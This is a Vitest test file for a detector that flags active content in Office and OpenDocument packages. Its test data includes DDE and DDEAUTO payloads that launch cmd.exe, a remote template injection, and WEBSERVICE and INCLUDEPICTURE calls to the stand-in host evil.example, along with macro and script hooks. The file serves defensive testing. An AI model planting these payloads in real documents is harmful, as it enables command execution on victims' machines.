import { expect, test } from 'vitest'
import { hasCommands } from './office-commands.ts'

const relation = (kind: string, mode = 'External') =>
  `<Relationships><Relationship Id="r" TargetMode="${mode}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" Target="https://evil.example/a"/></Relationships>`

test.each([
  [
    'xl/externalLinks/externalLink1.xml',
    '<externalLink><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>',
  ],
  ['xl/externalLinks/externalLink12.xml', '<x:externalLink><x:oleLink r:id="a"/></x:externalLink>'],
  ['xl/connections.xml', '<connections><connection id="1" name="a"/></connections>'],
  [
    'word/document.xml',
    '<w:instrText xml:space="preserve"> DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText>',
  ],
  ['word/header1.xml', '<w:fldSimple w:instr=" DDE Excel a b"/>'],
  ['word/_rels/settings.xml.rels', relation('attachedTemplate')],
  ['word/_rels/document.xml.rels', relation('oleObject')],
  ['word/_rels/document.xml.rels', relation('image')],
  [
    'word/document.xml',
    '<w:instrText> INCLUDEPICTURE "https://evil.example/a.png" \\d</w:instrText>',
  ],
  ['xl/worksheets/sheet1.xml', '<c r="A1"><f>_xlfn.WEBSERVICE("https://evil.example/")</f></c>'],
  ['xl/worksheets/sheet1.xml', '<c r="A1"><x:f t="array">SUM(1)+_xlfn.IMAGE(A2)</x:f></c>'],
  ['xl/workbook.xml', '<definedName name="a">CALL("urlmon","a","b")</definedName>'],
  ['xl/_rels/workbook.xml.rels', relation('xlMacrosheet', 'Internal')],
  ['xl/_rels/workbook.xml.rels', relation('jsProject', 'Internal')],
  ['content.xml', '<office:dde-source office:dde-application="soffice"/>'],
  ['content.xml', '<table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;&quot;a&quot;)"/>'],
  ['content.xml', '<script:event-listener xlink:href="vnd.sun.star.script:a.py$run"/>'],
])('%s starts something: %s', (name, xml) => {
  expect(hasCommands(toFiles(name, xml))).toBe(true)
})

test.each([
  ['word/document.xml', '<w:instrText> PAGE </w:instrText><w:t>DDE 是什么</w:t>'],
  ['word/_rels/document.xml.rels', relation('hyperlink')],
  ['word/_rels/document.xml.rels', relation('image', 'Internal')],
  ['word/_rels/settings.xml.rels', relation('attachedTemplate', 'Internal')],
  ['xl/externalLinks/externalLink1.xml', '<externalLink><externalBook r:id="a"/></externalLink>'],
  ['xl/worksheets/sheet1.xml', '<c><f>SUM(A1:A3)</f></c><c t="str"><v>CALL(1)</v></c>'],
  ['content.xml', '<table:table-cell table:formula="of:=SUM([.A1:.A3])"/><text:p>DDE(1)</text:p>'],
  ['xl/worksheets/sheet1.xml', '<c t="inlineStr"><is><t>=cmd</t></is></c>'],
])('%s starts nothing: %s', (name, xml) => {
  expect(hasCommands(toFiles(name, xml))).toBe(false)
})

function toFiles(name: string, xml: string): Map<string, Uint8Array<ArrayBuffer>> {
  return new Map([[name, new TextEncoder().encode(xml)]])
}
